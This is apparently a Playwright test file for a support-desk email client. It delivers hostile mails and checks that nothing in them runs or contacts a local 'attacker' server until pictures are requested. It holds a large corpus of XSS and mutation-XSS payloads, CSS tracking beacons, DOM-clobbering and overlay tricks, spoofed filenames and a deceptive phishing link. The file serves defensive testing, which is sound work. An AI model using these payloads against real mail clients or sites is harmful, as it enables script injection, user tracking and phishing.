"""Rows 19 to 21 of the attacks in a real browser: nothing in a mail runs, nothing is asked of anybody before
an agent wants to see pictures, and then only of us.
"""

from __future__ import annotations

import http.server
import struct
import threading
from collections.abc import Callable, Iterator
from email.message import EmailMessage

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from tests.house import House, wait_for
from tests.mail.pictures import drawing

Open = Callable[..., Page]
Problems = Callable[[Page], list[str]]

# Each is one letter. {e} is the attacker's own server, which writes down who asks.
HTML = """
<script>alert(1)</script><script src="{e}/s.js"></script>
<img src=x onerror=alert(1)><img src="{e}/a.png" onload=alert(1)>
<svg onload=alert(1)><script>alert(1)</script><image href="{e}/svg.png"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img src="</noembed><script>alert(1)</script>"></noembed><noframes><p title="</noframes><svg onload=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><title><a title="</title><svg onload=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<select><template><style></select><img src=x onerror=alert(1)></style></template>
<table><tr><td><style><td><svg><title><img src=x onerror=alert(1)></title></svg></style></table>
<p><a href="javascript:alert(1)">one</a><a href="java&#x09;script:alert(1)">two</a><a href="&#1;javascript:alert(1)">three</a></p>
<a href="data:text/html,<script>alert(1)</script>">four</a><a href="vbscript:alert(1)">five</a><a href="blob:null">six</a>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe><frameset onload=alert(1)>
<object data="data:text/html,<script>alert(1)</script>"></object><embed src="{e}/x.swf"><applet code=x archive="{e}/x.jar">
<body onload=alert(1) onpageshow=alert(1) background="{e}/body.png"><div onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</div>
<details open ontoggle=alert(1)><summary>x</summary></details><video src="{e}/v.mp4" poster="{e}/p.png" autoplay onerror=alert(1)></video>
<meta http-equiv="refresh" content="0;url={e}/refresh"><base href="{e}/"><a href="relative">x</a><img src="relative.png">
<link rel=stylesheet href="{e}/l.css"><link rel=preload as=image href="{e}/pre.png"><link rel=dns-prefetch href="{e}">
<style>@import "{e}/i.css"; @font-face {{ font-family: f; src: url({e}/f.woff) }} p {{ background: url({e}/st.png); font-family: f }}</style><p>x</p>
<style>p:after {{ content: url({e}/after.png) }} a[href^=h] {{ background: url({e}/leak.png) }}</style><p><a href="https://x.example">x</a></p>
<div style="background:url({e}/bg.png)">x</div><div style="background-image:u\\72 l({e}/esc.png)">x</div>
<div style='list-style:url("{e}/li.png")'>x</div><div style="cursor:url({e}/cur.png),auto;content:url({e}/con.png)">x</div>
<div style="width:expression(alert(1));behavior:url({e}/b.htc);-moz-binding:url({e}/m.xml)">x</div>
<table background="{e}/tb.png"><tr background="{e}/tr.png"><td background="{e}/td.png">x</td></tr></table>
<img src="{e}/one.png" srcset="{e}/two.png 2x, {e}/three.png 3x" sizes=100vw><picture><source srcset="{e}/four.png"><img src="{e}/five.png"></picture>
<input type=image src="{e}/input.png" onerror=alert(1)><button formaction="{e}/f">x</button><form action="{e}/form"><input autofocus onfocus=alert(1)></form>
<div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:gold">Sign in again</div>
<div style="position:absolute;top:-2000px;left:-2000px;width:5000px;height:5000px">x</div><div style="margin:-999px">x</div>
<div id=composer class=composer data-do=resolve hx-get="{e}/hx" hx-trigger=load data-hx-post="{e}/hx2">x</div>
<a id=location name=location href="{e}/clobber"></a><img name=getElementById><form id=document></form><a id=body>x</a>
<a href="{e}/go" target=_top ping="{e}/ping">go</a><area shape=default href="javascript:alert(1)"><map name=m></map>
<marquee onstart=alert(1)>x</marquee><isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>
<audio src="{e}/au.mp3" autoplay onerror=alert(1)></audio><bgsound src="{e}/bg.wav"><track src="{e}/t.vtt">
<img src="{e}/pixel.gif" width=1 height=1><img src="{e}/hidden.gif" style="display:none"><img src="{e}/zero.gif" height=0>
<![CDATA[<img src=x onerror=alert(1)>]]><!--[if mso]><script>alert(1)</script><![endif]--><?xml-stylesheet href="{e}/xs.css"?>
<a href="https://evil.test/login">https://www.mybank.example/login</a>
""".strip().splitlines()  # noqa: E501

EVIL = '"><img src=x onerror=alert(1)><script>alert(1)</script>'


def tnef(html: str) -> bytes:
    """What Outlook sends as winmail.dat: a signature, a key, and the HTML body as a MAPI property."""
    body = html.encode()
    padded = body + b"\0" * (-len(body) % 4)
    properties = struct.pack("<III", 1, 0x10130102, 1) + struct.pack("<I", len(body)) + padded
    attribute = struct.pack("<BII", 1, 0x00069003, len(properties)) + properties
    return struct.pack("<IH", 0x223E9F78, 1) + attribute + struct.pack("<H", sum(properties) & 0xFFFF)


def others(where: str) -> Iterator[EmailMessage]:
    """Letters that are no HTML, or not only."""
    attack = HTML[1].format(e=where)
    winmail = EmailMessage()
    winmail.set_content("see winmail")
    winmail.add_attachment(tnef(attack), maintype="application", subtype="ms-tnef", filename="winmail.dat")
    enriched = EmailMessage()
    enriched["Content-Type"] = "text/enriched"
    enriched.set_payload(
        f"<bold>x</bold><param>{EVIL}</param><x-html>{attack}</x-html><<script>alert(1)<</script>"
    )
    invitation = EmailMessage()
    invitation.set_content("Come!")
    invitation.add_alternative(
        f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:{EVIL}\r\nLOCATION:{attack}\r\n"
        f"DESCRIPTION:javascript:alert(1)\r\nX-ALT-DESC;FMTTYPE=text/html:{attack}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        subtype="calendar",
        params={"method": "REQUEST"},
    )
    plain = EmailMessage()
    plain.set_content(f"{EVIL}\n> {EVIL}\njavascript:alert(1) https://x.example/{EVIL}")
    files = EmailMessage()
    files.set_content("files")
    for name in (EVIL, "x.svg", "evil.html.png", "\u202egnp.exe"):
        files.add_attachment(attack.encode(), maintype="image", subtype="png", filename=name)
    for mail in (winmail, enriched, invitation, plain, files):
        del mail["MIME-Version"]
        yield mail


class Elsewhere(http.server.ThreadingHTTPServer):
    """The attacker's server: it has every picture, and remembers who asked for it."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.asked: list[tuple[str, dict[str, str]]] = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()


class Answer(http.server.BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.append((self.path, dict(self.headers.items())))
        body = drawing(40, 20, "PNG")
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Set-Cookie", "seen=1")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_said: object) -> None:
        pass


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """Where the attacker's server is on loopback, our own may be asked all the same."""
    with House(tmp_path_factory.mktemp("house"), PROSA__FETCH__PRIVATE_HOSTS="127.0.0.1") as made:
        yield made


THEIRS = "FROM message WHERE kind = 'customer' AND subject LIKE '%onerror%'"


@pytest.fixture(scope="module")
def hostile(house: House, elsewhere: Elsewhere) -> int:
    """One conversation of every attack; its number."""
    letters = []
    for text in HTML:
        mail = EmailMessage()
        mail.set_content(text.format(e=elsewhere.url), subtype="html")
        letters.append(mail)
    letters += others(elsewhere.url)
    for number, mail in enumerate(letters):
        mail["From"] = f'"{EVIL[1:]}" <eve@evil.test>' if number % 2 else "Eve <eve@evil.test>"
        mail["To"], mail["Subject"] = "support@barro.example", f"Re: {EVIL}"
        mail["Message-ID"] = f"<{number}@evil.test>"
        if number:
            mail["In-Reply-To"] = "<0@evil.test>"
        house.deliver(mail.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
        if not number:  # what answers it must find it
            wait_for(lambda: house.count(f"SELECT count(*) {THEIRS}") == 1, 30, house.said)
    wait_for(lambda: house.count(f"SELECT count(*) {THEIRS}") == len(letters), 60, house.said)
    assert house.count(f"SELECT count(DISTINCT ticket_id) {THEIRS}") == 1
    return house.count(f"SELECT min(ticket_id) {THEIRS}")


class Heard:
    """What a page said and asked while it was read."""

    def __init__(self, page: Page, house: House) -> None:
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.strangers: list[str] = []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", self._hear)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        ours = (house.url, house.url.replace("http", "ws"), "data:", "blob:", "about:")
        page.on(
            "request", lambda asked: None if asked.url.startswith(ours) else self.strangers.append(asked.url)
        )

    def _hear(self, line: ConsoleMessage) -> None:
        if line.type == "error" and "Failed to load resource" not in line.text:
            self.errors.append(line.text)

    def nothing(self) -> bool:
        return self.dialogs == [] and self.errors == [] and self.strangers == []


def unfold(page: Page) -> None:
    """Every letter is open and its frame drawn, wherever the screen is."""
    while page.locator("[data-do='earlier']").count():
        page.locator("[data-do='earlier']").click()
        page.wait_for_timeout(300)
    page.evaluate(
        """() => {
          for (const one of document.querySelectorAll('.letter.is-folded .letter-unfold')) one.click();
          for (const frame of document.querySelectorAll('iframe.frame')) frame.loading = 'eager';
          for (const one of document.querySelectorAll('.letter details')) one.open = true;
        }"""
    )
    page.wait_for_function(
        "() => [...document.querySelectorAll('iframe.frame')].every(frame => frame.dataset.painted)"
    )


def poke(page: Page) -> None:
    """Every link is pointed at and everything that could be clicked is, without going anywhere."""
    page.evaluate(
        """() => {
          for (const frame of document.querySelectorAll('iframe.frame')) {
            const page = frame.contentDocument;
            page.addEventListener('click', (event) => event.preventDefault(), true);
            for (const one of page.body.querySelectorAll('*')) {
              for (const what of ['mouseover', 'focus', 'mousedown', 'click', 'toggle', 'error', 'load'])
                one.dispatchEvent(new MouseEvent(what, { bubbles: true, cancelable: true }));
            }
          }
        }"""
    )
    page.wait_for_timeout(500)


def test_attack_19_20_21_a_mail_runs_nothing_and_asks_nobody_until_it_is_wanted(
    house: House, open_browser: Open, hostile: int, elsewhere: Elsewhere
) -> None:
    page = open_browser("/views/mine")
    heard = Heard(page, house)
    page.goto(f"{house.url}/views/open/tickets/{hostile}")
    unfold(page)
    poke(page)
    assert heard.nothing(), (heard.dialogs, heard.errors, heard.strangers)
    assert elsewhere.asked == []
    # what lies over what: the page's own buttons are where they were
    for button in ("#send", "#resolve", "#subject"):
        assert page.evaluate(
            """(which) => { const one = document.querySelector(which), spot = one.getBoundingClientRect();
              const [x, y] = [spot.x + spot.width / 2, spot.y + spot.height / 2];
              return one.contains(document.elementFromPoint(x, y)); }""",
            button,
        ), button
    assert page.evaluate("document.querySelectorAll('#composer').length") == 1
    # then somebody asks
    while (wanted := page.locator("[data-do='pictures']:visible")).count():
        wanted.first.evaluate("button => button.click()")
    page.wait_for_timeout(2500)
    poke(page)
    assert heard.nothing(), (heard.dialogs, heard.errors, heard.strangers)
    paths = {path for path, _headers in elsewhere.asked}
    assert paths == {"/a.png", "/one.png", "/five.png"}
    assert len(elsewhere.asked) == len(paths)
    for _path, sent in elsewhere.asked:
        assert not {"Cookie", "Referer", "Origin"} & set(sent) and sent["User-Agent"] == "Prosa"
    with house.rows() as rows:
        assert rows("SELECT status FROM ticket WHERE id = :t", t=hostile) == [("new",)]


def test_attack_21_a_link_says_where_it_leads(house: House, open_browser: Open, hostile: int) -> None:
    page = open_browser(f"/views/open/tickets/{hostile}")
    unfold(page)
    frame = page.locator("iframe.frame").last.content_frame
    expect(frame.locator(".elsewhere")).to_have_text("leads to evil.test")
    frame.locator("a").focus()
    expect(page.locator("#where")).to_have_text("evil.test/login")
    expect(page.locator("#where")).to_be_visible()
    frame.locator("a").blur()
    expect(page.locator("#where")).to_be_hidden()


@pytest.mark.parametrize("theme", ["dark"])
def test_letters_and_their_pages_are_for_everybody(
    house: House, open_browser: Open, hostile: int, problems: Problems, theme: str
) -> None:
    number = house.count(f"SELECT max(id) {THEIRS}")
    for path in (f"/messages/{number}/headers", f"/messages/{number}/source", f"/tickets/{hostile}/print"):
        page = open_browser(path, theme=theme)
        assert problems(page) == [], path
    for width in (1440, 390):
        page = open_browser(f"/views/open/tickets/{hostile}", theme=theme, width=width)
        page.locator(".letter-to summary:visible").last.click()
        page.locator(".letter:not(.is-folded) .letter-more").last.click()
        assert problems(page) == [], width


def test_a_long_conversation_shows_its_end_and_keeps_its_place(house: House, open_browser: Open) -> None:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Rui <rui@long.test>", "support@barro.example", "Long"
    mail["Message-ID"] = "<long@long.test>"
    mail.set_content("The very first words")
    house.deliver(mail.as_bytes())
    found = "SELECT coalesce(max(id), 0) FROM ticket WHERE subject = 'Long'"
    ticket = wait_for(lambda: house.count(found), 20, house.said)
    for number in range(60):
        assert house.ask(
            "POST", f"/tickets/{ticket}/notes", html=f"<p>note {number:02}</p>", key=f"{number}"
        ).ok
    page = open_browser(f"/views/open/tickets/{ticket}")
    expect(page.get_by_text("note 59")).to_be_visible()
    expect(page.locator("#turns").get_by_text("The very first words")).to_have_count(0)
    button = page.get_by_role("button", name="Show earlier")
    button.scroll_into_view_if_needed()
    oldest = page.locator("#turns > .note").first
    name, before = oldest.get_attribute("id"), oldest.bounding_box()
    button.click()
    expect(page.locator("#turns .plain", has_text="The very first words")).to_be_attached()
    after = page.locator(f"#{name}").bounding_box()
    assert before and after and abs(before["y"] - after["y"]) < 40  # the button itself is gone
    expect(button).to_have_count(0)
    # what changes while one reads comes at its place, not at the end
    assert house.ask("POST", f"/tickets/{ticket}/notes", html="<p>the newest</p>", key="new").ok
    expect(page.locator("#turns > .note").last).to_contain_text("the newest")
